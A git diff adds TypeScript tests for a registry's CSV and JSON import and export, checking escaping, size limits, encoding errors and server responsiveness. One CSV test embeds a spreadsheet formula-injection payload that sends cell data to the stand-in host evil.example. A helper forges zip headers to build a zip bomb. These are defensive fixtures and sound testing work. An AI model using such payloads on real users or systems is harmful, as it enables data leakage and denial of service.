@@ -1,3 +1,7 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import pino from 'pino';
 import sharp from 'sharp';
@@ -8,7 +12,14 @@ import { generateNetwork } from '../../demo/generate-network.ts';
 import { loadDemo } from '../../demo/load-demo.ts';
 import { mailerFor, systemContext } from '../../main.ts';
 import type { Context } from '../../platform/context.ts';
-import { addToRegistry, exportRegistry, importRegistry, readRegistry } from './index.ts';
+import { registryToCsvZip } from './exchange/registry-csv.ts';
+import {
+  addToRegistry,
+  exportRegistry,
+  importRegistry,
+  importRegistryFile,
+  readRegistry,
+} from './index.ts';
 
 let source: TestApi;
 let sourceContext: Context;
@@ -106,6 +117,49 @@ describe('export and import of the whole registry', () => {
     expect(header).toBe(
       'id,name,shortName,otherNames,kind,legalForm,sector,country,region,locality,latitude,longitude,languages,foundingYear,membersTotal,membersWomen,membersMen,employees,website,contacts,description,descriptions,principles,isDemo,version,createdAt,updatedAt',
     );
+  });
+
+  it('csv: text cells are safe to open in a spreadsheet, and come back exactly', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+    const fields = {
+      name: formula,
+      shortName: "'Quoted",
+      legalForm: '@cooperative',
+      region: '+91 Region',
+      description: '- one\n- two',
+      coordinates: { lat: -33.45, lon: -70.66 },
+      contacts: { phone: '+919876543210' },
+    };
+    const first = await emptyInstance(async (ctx, api) => {
+      await api.createOrganization(fields);
+      return exportRegistry(ctx, 'csv');
+    });
+    const files = unzipSync(new Uint8Array(first.body));
+    for (const [name, content] of Object.entries(files)) {
+      if (!name.endsWith('.csv')) continue;
+      for (const cell of parse(strFromU8(content)).flat() as string[]) {
+        // Only numbers (a negative latitude) may start with a sign.
+        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${name}: ${cell}`).toMatch(/^-\d+(\.\d+)?$/);
+      }
+    }
+    const [header, row] = parse(strFromU8(files['organizations.csv'] as Uint8Array)) as string[][];
+    const cell = (column: string) => row?.[header?.indexOf(column) ?? -1];
+    expect(cell('name')).toBe(`'${formula}`);
+    expect(cell('shortName')).toBe("''Quoted");
+    expect(cell('latitude')).toBe('-33.45');
+    expect(JSON.parse(cell('contacts') ?? '')).toEqual({ phone: '+919876543210' });
+    await emptyInstance(async (ctx, api) => {
+      await importRegistry(ctx, { bytes: first.body, format: 'csv' });
+      const [imported] = (
+        await api.app.inject({ method: 'GET', url: '/api/network/organizations' })
+      ).json().items;
+      const read = (
+        await api.app.inject({ method: 'GET', url: `/api/network/organizations/${imported.id}` })
+      ).json();
+      expect(read).toMatchObject(fields);
+      const again = await exportRegistry(ctx, 'csv');
+      expect(again.body.equals(first.body), 'the second export differs from the first').toBe(true);
+    });
   });
 
   it('a file with one bad line stores nothing and names the line and the field', async () => {
@@ -245,6 +299,22 @@ describe('export and import of the whole registry', () => {
     });
   });
 
+  it('a language code of the wrong form is refused with its place, not a crash', async () => {
+    const document = JSON.parse(
+      (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
+    );
+    document.organizations[2].languages = ['e'];
+    await emptyInstance(async (ctx, api) => {
+      await expect(
+        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(document)), format: 'json' }),
+      ).rejects.toMatchObject({
+        code: 'validation-failed',
+        message: expect.stringMatching(/^organizations\[2\], field languages\/0: /),
+      });
+      expect(await countRows(api.database, 'network_organization')).toBe(0);
+    });
+  });
+
   it('refuses an import into a registry that is not empty, and files that are not exports', async () => {
     const { body } = await exportRegistry(sourceContext, 'json');
     await expect(
@@ -345,4 +415,238 @@ describe('a generated network', () => {
       );
     });
   }, 120_000);
+});
+
+/** The context of `api` with these settings. */
+function withSettings(ctx: Context, settings: Record<string, string>): Context {
+  return {
+    ...ctx,
+    config: loadConfig({ PUBLIC_URL: publicUrl, LOG_LEVEL: 'silent', ...settings }),
+  };
+}
+
+/** A zip whose central directory (and local header) says that `name` inflates to `size` bytes. */
+function declaringSize(zip: Uint8Array, name: string, size: number): Buffer {
+  const bytes = Buffer.from(zip);
+  for (const [signature, sizeAt, nameLengthAt, nameAt] of [
+    [0x04034b50, 22, 26, 30],
+    [0x02014b50, 24, 28, 46],
+  ] as const) {
+    for (
+      let at = bytes.indexOf(Buffer.from([0x50, 0x4b]));
+      at !== -1;
+      at = bytes.indexOf(Buffer.from([0x50, 0x4b]), at + 1)
+    ) {
+      if (bytes.readUInt32LE(at) !== signature) continue;
+      const length = bytes.readUInt16LE(at + nameLengthAt);
+      if (bytes.toString('utf8', at + nameAt, at + nameAt + length) === name)
+        bytes.writeUInt32LE(size, at + sizeAt);
+    }
+  }
+  return bytes;
+}
+
+describe('imports within limits', () => {
+  const manifest = strToU8(JSON.stringify({ format: 'intercoop-registry', version: 1 }));
+  // One empty instance for these refusals (each stores nothing), its body limit at 1 MiB.
+  let target: TestApi;
+  let targetContext: Context;
+  beforeAll(async () => {
+    target = await startTestApi({ IMPORT_MAX_MIB: '1' });
+    targetContext = contextFor(target);
+  });
+  afterAll(async () => {
+    await target?.close();
+  });
+  const inEmptyTarget = async <T>(work: (ctx: Context, api: TestApi) => Promise<T>) => {
+    const result = await work(targetContext, target);
+    expect(await countRows(target.database, 'network_organization')).toBe(0);
+    return result;
+  };
+
+  it('a zip that says it inflates past the limits is refused from its directory, before inflating', async () => {
+    const small = zipSync({ 'manifest.json': manifest, 'organizations.csv': strToU8('id\n') });
+    const bomb = declaringSize(small, 'organizations.csv', 1024 * 1024 * 1024);
+    await inEmptyTarget(async (ctx) => {
+      // Were it inflated, its 4 bytes would be found short of what it declares.
+      await expect(importRegistry(ctx, { bytes: bomb, format: 'csv' })).rejects.toMatchObject({
+        code: 'too-large',
+        message: expect.stringMatching(/^organizations\.csv in the archive is more than 128 MiB/),
+      });
+      const limited = withSettings(ctx, {
+        IMPORT_MAX_INFLATED_MIB: '1',
+        IMPORT_MAX_INFLATED_FILE_MIB: '1',
+      });
+      const large = strToU8('x'.repeat(700 * 1024));
+      const twoFiles = Buffer.from(
+        zipSync({ 'manifest.json': manifest, 'organizations.csv': large, 'logos.csv': large }),
+      );
+      await expect(
+        importRegistry(limited, { bytes: twoFiles, format: 'csv' }),
+      ).rejects.toMatchObject({
+        code: 'too-large',
+        message: expect.stringMatching(/^The archive is more than 1 MiB once inflated/),
+      });
+    });
+  });
+
+  it('a zip whose directory lies about its sizes is stopped as it inflates', async () => {
+    const large = strToU8(`id\n${'x'.repeat(3 * 1024 * 1024)}\n`);
+    const lying = declaringSize(
+      zipSync({ 'manifest.json': manifest, 'organizations.csv': large }),
+      'organizations.csv',
+      1024,
+    );
+    await inEmptyTarget(async (ctx, api) => {
+      const limited = withSettings(ctx, { IMPORT_MAX_INFLATED_FILE_MIB: '1' });
+      await expect(importRegistry(limited, { bytes: lying, format: 'csv' })).rejects.toMatchObject({
+        message: expect.stringMatching(/^organizations\.csv in the archive/),
+      });
+      expect(await countRows(api.database, 'network_organization')).toBe(0);
+    });
+  });
+
+  it('refuses text that is not UTF-8, or holds a NUL, naming the file and the line', async () => {
+    const files = unzipSync(new Uint8Array((await exportRegistry(sourceContext, 'csv')).body));
+    const lines = strFromU8(files['organizations.csv'] as Uint8Array).split('\n');
+    // A line in plain ASCII, so that only what is put in it differs between the encodings.
+    const target = lines.findIndex((line, index) => index > 3 && /^[\x20-\x7e]+$/.test(line)) + 1;
+    const spoiled = (encode: (line: string) => Buffer, insert: string) => {
+      const bytes = lines.map((line, index) =>
+        index === target - 1
+          ? encode(line.replace(/^([0-9a-f-]{36}),/, `$1,${insert}`))
+          : Buffer.from(line, 'utf8'),
+      );
+      const content = Buffer.concat(bytes.flatMap((line) => [line, Buffer.from('\n')]));
+      return Buffer.from(zipSync({ ...files, 'organizations.csv': new Uint8Array(content) }));
+    };
+    await inEmptyTarget(async (ctx, api) => {
+      await expect(
+        importRegistry(ctx, {
+          bytes: spoiled((line) => Buffer.from(line, 'latin1'), 'Coopérative '),
+          format: 'csv',
+        }),
+      ).rejects.toMatchObject({
+        code: 'validation-failed',
+        message: expect.stringMatching(
+          new RegExp(`^organizations\\.csv line ${target} is not UTF-8 text`),
+        ),
+        details: {
+          errors: [
+            { code: 'invalid-encoding', params: { file: 'organizations.csv', line: target } },
+          ],
+        },
+      });
+      await expect(
+        importRegistry(ctx, {
+          bytes: spoiled((line) => Buffer.from(line, 'utf8'), 'Nul\u0000 '),
+          format: 'csv',
+        }),
+      ).rejects.toMatchObject({
+        message: expect.stringMatching(
+          new RegExp(`^organizations\\.csv line ${target} holds a NUL character`),
+        ),
+      });
+      const document = JSON.parse(
+        (await exportRegistry(sourceContext, 'json')).body.toString('utf8'),
+      );
+      document.organizations[2].name = 'Escaped \u0000 NUL';
+      const latin1 = Buffer.from(
+        JSON.stringify({ ...document, organizations: [] }, null, 1).replace(
+          '"organizations": []',
+          '"organizations": ["Caf\u00e9"]',
+        ),
+        'latin1',
+      );
+      await expect(
+        importRegistry(ctx, { bytes: Buffer.from(JSON.stringify(document)), format: 'json' }),
+      ).rejects.toMatchObject({
+        message: expect.stringMatching(/^organizations\[2\], field name: /),
+        details: { errors: [{ pointer: '/organizations/2/name', code: 'control-characters' }] },
+      });
+      await expect(importRegistry(ctx, { bytes: latin1, format: 'json' })).rejects.toMatchObject({
+        message: expect.stringMatching(/^The JSON file line 4 is not UTF-8 text/),
+      });
+      expect(await countRows(api.database, 'network_organization')).toBe(0);
+    });
+  });
+
+  it('over HTTP: a registry that is not empty, or a file over the limit, is refused before it is read', async () => {
+    const notAZip = { 'content-type': 'application/zip' };
+    // Not read at all: were it read, it would be refused as not a zip (400).
+    const full = await source.admin.request({
+      method: 'POST',
+      url: '/api/network/registry/import',
+      headers: notAZip,
+      payload: Buffer.from('not a zip'),
+    });
+    expect(full.statusCode, full.body).toBe(409);
+    const large = await target.admin.request({
+      method: 'POST',
+      url: '/api/network/registry/import',
+      headers: notAZip,
+      payload: Buffer.alloc(1024 * 1024 + 1),
+    });
+    expect(large.statusCode, large.body).toBe(413);
+    expect(large.json()).toMatchObject({
+      type: 'urn:intercoop:problem:too-large',
+      detail: expect.stringMatching(/IMPORT_MAX_MIB/),
+    });
+  });
+
+  it('the command: refused before the file is read when the registry is not empty or the file too large', async () => {
+    await expect(
+      importRegistryFile(sourceContext, '/nonexistent/registry.zip'),
+    ).rejects.toMatchObject({ code: 'conflict' });
+    const file = path.join(os.tmpdir(), `intercoop-import-${process.pid}.zip`);
+    fs.writeFileSync(file, Buffer.alloc(1024 * 1024 + 1));
+    try {
+      await inEmptyTarget(async (ctx) => {
+        await expect(
+          importRegistryFile(withSettings(ctx, { IMPORT_MAX_MIB: '1' }), file),
+        ).rejects.toMatchObject({ code: 'too-large' });
+      });
+    } finally {
+      fs.rmSync(file);
+    }
+  });
+
+  for (const format of ['json', 'csv'] as const) {
+    it(`${format}: the server answers /health all through a large import`, async () => {
+      const data = generateNetwork(10_000, 11);
+      // The last row is wrong: the whole file is read and checked, then refused (nothing stored).
+      (data.intents.at(-1) as { organizationId: string }).organizationId =
+        '0190f0c4-8e2a-7c3b-9d1e-2f3a4b5c6d7e';
+      const bytes =
+        format === 'csv'
+          ? Buffer.from(registryToCsvZip(data))
+          : Buffer.from(JSON.stringify({ format: 'intercoop-registry', version: 1, ...data }));
+      await inEmptyTarget(async (ctx, api) => {
+        let settled = false;
+        const importing = importRegistry(ctx, { bytes, format }).then(
+          () => undefined,
+          (error: unknown) => error,
+        );
+        importing.finally(() => {
+          settled = true;
+        });
+        let answeredDuringImport = 0;
+        // A client asking every millisecond or so (an injected request alone would be answered
+        // without the event loop turning, leaving the import no turn either).
+        while (!settled) {
+          const health = await api.app.inject({ method: 'GET', url: '/health' });
+          expect(health.statusCode).toBe(200);
+          if (!settled) answeredDuringImport += 1;
+          await new Promise((resolve) => setTimeout(resolve, 1));
+        }
+        expect(await importing).toMatchObject({
+          code: 'validation-failed',
+          message: expect.stringMatching(/field organizationId: No organization in the file/),
+        });
+        // Health checks went on being answered while the file was read and checked, not only
+        // before it and after.
+        expect(answeredDuringImport).toBeGreaterThan(10);
+      });
+    }, 120_000);
+  }
 });
